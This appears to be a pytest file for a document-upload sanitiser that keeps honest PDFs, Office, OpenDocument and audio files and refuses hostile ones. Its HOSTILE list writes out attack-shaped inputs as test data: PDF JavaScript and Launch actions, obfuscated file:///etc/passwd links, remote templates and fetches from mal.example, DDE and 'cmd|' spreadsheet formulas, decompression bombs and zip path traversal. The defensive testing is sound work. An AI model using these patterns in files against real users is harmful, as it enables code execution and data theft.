"""Files for the library: honest ones are kept as they are; hostile ones of every kind are refused in a sentence."""

from __future__ import annotations

import zlib
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.authoring.incoming import library_checks
from app.authoring.incoming.image_process import answers
from app.authoring.incoming.images import ImageRefused
from app.authoring.incoming.library_checks import clean_file
from app.authoring.incoming.limits import LARGEST_FILE
from app.platform.zips import FileRefused
from tests.authoring.incoming import pictures
from tests.authoring.incoming.library import made
from tests.authoring.incoming.zips import locked
from tests.words import LEAVES_ARCHIVE

HONEST = [
    ("Synthèse (1).PDF", made.pdf(), "synthese-1.pdf"),
    ("a.pdf", made.pdf(b"<</S/URI/URI(https://fr.wikipedia.org/wiki/Lens_(Nord)#a)>><</S/URI/URI(mailto:a@b.fr)>><</S/URI/URI(suite.html)>>"), "a.pdf"),
    ("a.pdf", made.pdf(b"<</Type/Catalog/OpenAction[3 0 R/Fit]>>", made.stream(b"BT (Launch of /Java) Tj ET")), "a.pdf"),
    ("objets.pdf", made.pdf(made.stream(b"1 0 <</Type/Page/Contents 4 0 R>>", b"/Type/ObjStm")), "objets.pdf"),
    ("a.odt", made.odt('<text:a xlink:href="https://example.org/"/>'), "a.odt"),
    ("a.docx", made.docx(files={"word/_rels/document.xml.rels": made.relation("hyperlink", "https://example.org")}), "a.docx"),
    ("a.xlsx", made.xlsx("<f>SUM(A1:A3)</f>"), "a.xlsx"),
    ("a.mp3", made.mp3(), "a.mp3"),
    ("a.mp3", made.mp3() + b"TAG" + bytes(125), "a.mp3"),
    ("a.ogg", made.ogg(), "a.ogg"),
    ("a.opus", made.ogg(b"\x01vorbis"), "a.opus"),
    ("a.m4a", made.m4a(), "a.m4a"),
]


@pytest.mark.parametrize(("name", "data", "kept"), HONEST)
def test_an_honest_file_keeps_its_bytes(name: str, data: bytes, kept: str) -> None:
    file = clean_file(name, data, answers)
    assert (file.name, file.data) == (kept, data)


def _named(word: bytes) -> bytes:
    return made.pdf(b"<</S" + word + b">>")


DIRECTORY = made.zipped({"a.txt": "a"})
HOSTILE = [
    # names, weights and types
    ("a.exe", b"MZ" + bytes(100), "formats"),
    ("page.html", b"<script>alert(1)</script>", "formats"),
    ("dessin.svg", b"<svg/>", "formats"),
    ("a.docm", made.docx(), "macros"),
    ("a.xlsm", made.xlsx(), "macros"),
    ("sans-extension", b"x", "formats"),
    ("a.pdf", b"", "vide"),
    ("a.pdf", b"MZ" + bytes(100), "programme"),
    ("a.pdf", b"#!/bin/sh\n", "programme"),
    ("a.pdf", b"<html>", "n’est pas un document PDF"),
    ("a.pdf", made.docx(), "n’est pas un document PDF"),
    ("a.pdf", made.pdf(head=b"GIF89a%PDF-1.7"), "n’est pas un document PDF"),
    ("a.docx", made.xlsx(), "n’est pas un document Word"),
    ("a.xlsx", made.docx(), "Excel"),
    ("a.odt", made.docx(), "OpenDocument"),
    ("a.docx", DIRECTORY, "Word"),
    ("a.mp3", made.ogg(), "enregistrement"),
    ("a.ogg", made.mp3(), "enregistrement"),
    ("a.m4a", made.mp3(), "enregistrement"),
    ("a.png", made.pdf(), "image"),
    # PDF
    ("a.pdf", made.pdf()[:-8], "abîmé"),
    ("a.pdf", made.pdf(trailer=b"/Root 1 0 R/Encrypt 3 0 R"), "mot de passe"),
    ("a.pdf", made.pdf(trailer=b"/Root 1 0 R/#45ncrypt 3 0 R"), "mot de passe"),
    ("a.pdf", _named(b"/JavaScript/JS(app.alert(1))"), "JavaScript"),
    ("a.pdf", _named(b"/J#61v#61Script"), "JavaScript"),
    ("a.pdf", _named(b"/URI/URI(file:///etc/passwd)"), "file:///etc/passwd"),
    ("a.pdf", _named(b"/URI/URI %x\n ( FI\\154e:///etc/passwd)"), "file:///etc/passwd"),
    ("a.pdf", _named(b"/URI/#55RI<66 69 6C653A2F2F2F78>"), "file:///x"),
    ("a.pdf", _named(b"/URI/URI(\xfe\xff\0f\0i\0l\0e\0:\0/)"), "file:/"),
    ("a.pdf", _named(b"/URI/URI(\\\\\\\\serveur\\\\partage)"), "ne mène pas au Web"),
    ("a.pdf", _named(b"/URI/URI(javascript:alert\\(1\\))"), "ne mène pas au Web"),
    ("a.pdf", made.pdf(b"<</Type/Catalog/URI<</Base(file:///)>>>>"), "ne mène pas au Web"),
    ("a.pdf", made.pdf(made.stream(b"1 0 <</S/URI/URI(file:///x)>>", b"/Type/ObjStm")), "ne mène pas au Web"),
    ("a.pdf", _named(b"/GoToR/F(x.pdf)"), "fichier de l’ordinateur"),
    ("a.pdf", _named(b"/#4a#61#76#61#53#63#72#69#70#74"), "JavaScript"),
    ("a.pdf", made.pdf(b"<</OpenAction<</S/JavaScript/JS(x)>>>>"), "JavaScript"),
    ("a.pdf", _named(b"/Launch/F(cmd.exe)"), "lance un programme"),
    ("a.pdf", made.pdf(b"<</Names<</EmbeddedFiles 3 0 R>>>>"), "un autre fichier"),
    ("a.pdf", made.pdf(b"<</Type/EmbeddedFile>>"), "un autre fichier"),
    ("a.pdf", _named(b"/GoToE"), "un autre fichier"),
    ("a.pdf", made.pdf(b"<</Subtype/RichMedia>>"), "interactif"),
    ("a.pdf", _named(b"/SubmitForm"), "formulaire"),
    ("a.pdf", made.pdf(made.stream(b"1 0 <</S/JavaScript/JS(x)>>", b"/Type/ObjStm")), "JavaScript"),
    ("a.pdf", made.pdf(made.stream(b"1 0 <</S/JavaScript/JS(x)>>")), "JavaScript"),
    ("a.pdf", made.pdf(b"<</Type/ObjStm/Filter/ASCIIHexDecode>>\nstream\n2f4a>\nendstream"), "inhabituelle"),
    ("a.pdf", made.pdf(b"<</Type/#4fbjStm/Filter[/FlateDecode/ASCIIHexDecode]>>\nstream\n" + zlib.compress(b"2f>") + b"\nendstream"), "inhabituelle"),
    ("a.pdf", made.pdf(made.stream(b"1 0 <<>>", b"/Type/ObjStm/DecodeParms<</Predictor 12>>")), "inhabituelle"),
    ("a.pdf", made.pdf(made.stream(bytes(60_000_000))), "démesuré"),
    # Word, Excel, OpenDocument
    ("a.docx", b"\xd0\xcf\x11\xe0" + bytes(600), "mot de passe"),
    ("a.docx", made.docx()[:-30], "archive"),
    ("a.docx", locked(made.docx()), "mot de passe"),
    ("a.docx", made.docx(files={"word/vbaProject.bin": b"x"}), "macros"),
    ("a.docx", made.docx(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "macros"),
    ("a.docx", made.docx(files={"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    ("a.docx", made.docx(files={"word/embeddings/oleObject1.bin": b"x"}), "contient un autre"),
    ("a.docx", made.docx(files={"word/media/image1.png": b"MZ" + bytes(50)}), "contient un autre"),
    ("a.docx", made.docx(files={"word/_rels/settings.xml.rels": made.relation("attachedTemplate", "https://mal.example/m.dotm")}), "autre ordinateur"),
    ("a.docx", made.docx(files={"word/_rels/document.xml.rels": made.relation("image", "https://mal.example/i.png")}), "autre ordinateur"),
    ("a.docx", made.docx(files={"word/_rels/document.xml.rels": made.relation("oleObject", "\\\\mal\\x")}), "autre ordinateur"),
    ("a.docx", made.docx(files={"word/_rels/document.xml.rels": made.relation("hyperlink", "file:///c:/x.exe")}), "adresse du Web"),
    ("a.docx", made.docx(files={"word/_rels/document.xml.rels": made.relation("hyperlink", "\\\\mal\\x")}), "adresse du Web"),
    ("a.docx", made.docx("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"), "ailleurs"),
    ("a.docx", made.docx('<w:fldSimple w:instr="INCLUDEPICTURE http://mal.example/i"/>'), "ailleurs"),
    ("a.docx", made.docx(files={"word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "DOCTYPE"),
    ("a.docx", made.docx(files={"word/x.xml": "<a><b></a>"}), "abîmé"),
    ("a.docx", made.docx(files={"word/bombe.xml": bytes(61_000_000)}), "Mo"),
    ("a.docx", made.docx(files={"../x.xml": "<a/>"}), LEAVES_ARCHIVE),
    ("a.xlsx", made.xlsx(files={"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    ("a.xlsx", made.xlsx(files={"xl/externalLinks/externalLink1.xml": "<a/>"}), "va le chercher"),
    ("a.xlsx", made.xlsx(files={"xl/connections.xml": "<a/>"}), "va le chercher"),
    ("a.xlsx", made.xlsx("<f>WEBSERVICE(&quot;http://mal.example&quot;)</f>"), "ailleurs"),
    ("a.xlsx", made.xlsx("<f>cmd|&apos;/c calc&apos;!A0</f>"), "ailleurs"),
    ("a.odt", made.odt(Basic__Standard__Module1__xml="<a/>"), "macros"),
    ("a.odt", made.odt(Scripts__python__x="print()"), "macros"),
    ("a.odt", made.odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), "programme"),
    ("a.odt", made.odt('<draw:image xlink:href="https://mal.example/i.png"/>'), "autre ordinateur"),
    ("a.odt", made.odt('<text:a xlink:href="file:///etc/passwd"/>'), "adresse du Web"),
    ("a.odt", made.odt('<text:a xlink:href="javascript:alert(1)"/>'), "adresse du Web"),
    ("a.odt", made.zipped({"mimetype": "application/vnd.oasis.opendocument.base", "content.xml": "<a/>"}), "OpenDocument"),
    ("a.odt", made.zipped({"mimetype": made.ODT}), "OpenDocument"),
    # sound
    ("a.mp3", made.mp3(1), "enregistrement"),
    ("a.mp3", made.mp3() + b"<script>alert(1)</script>", "enregistrement"),
    ("a.mp3", b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(50), "enregistrement"),
    ("a.ogg", made.ogg()[:-5], "enregistrement"),
    ("a.ogg", made.ogg() + b"PK\x03\x04", "enregistrement"),
    ("a.ogg", made.ogg(b"\x80theora"), "autre chose que du son"),
    ("a.m4a", made.m4a(b"soun", b"vide"), "vidéo"),
    ("a.m4a", made.m4a(b"text"), "enregistrement"),
    ("a.m4a", made.m4a()[:-4], "enregistrement"),
    ("a.m4a", made.m4a(brand=b"heic"), "enregistrement"),
]


@pytest.mark.parametrize(("name", "data", "said"), HOSTILE)
def test_a_hostile_file_is_refused_in_a_sentence(name: str, data: bytes, said: str) -> None:
    with pytest.raises((FileRefused, ImageRefused)) as refused:
        clean_file(name, data, answers)
    assert said in refused.value.sentence
    assert refused.value.sentence.endswith(".")


def test_what_is_too_heavy_is_refused_before_it_is_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(library_checks, "LARGEST_FILE", 1000)
    with pytest.raises(FileRefused, match="dossier du cours"):
        clean_file("a.pdf", made.pdf() + bytes(2000), answers)
    assert LARGEST_FILE < 100_000_000


def test_an_image_is_written_again() -> None:
    sent = pictures.photograph()
    assert clean_file("a.jpg", sent, answers).data not in (b"", sent)


@given(st.binary(max_size=200), st.sampled_from([".pdf", ".odt", ".docx", ".xlsx", ".mp3", ".ogg", ".m4a"]))
def test_no_bytes_raise_anything_but_a_refusal(data: bytes, extension: str) -> None:
    starts = {".pdf": made.pdf()[:-8], ".mp3": made.mp3(2), ".ogg": made.ogg(), ".m4a": made.m4a()}
    for sent in (data, starts.get(extension, b"PK\x03\x04") + data):
        with suppress(FileRefused):
            clean_file(f"a{extension}", sent, answers)
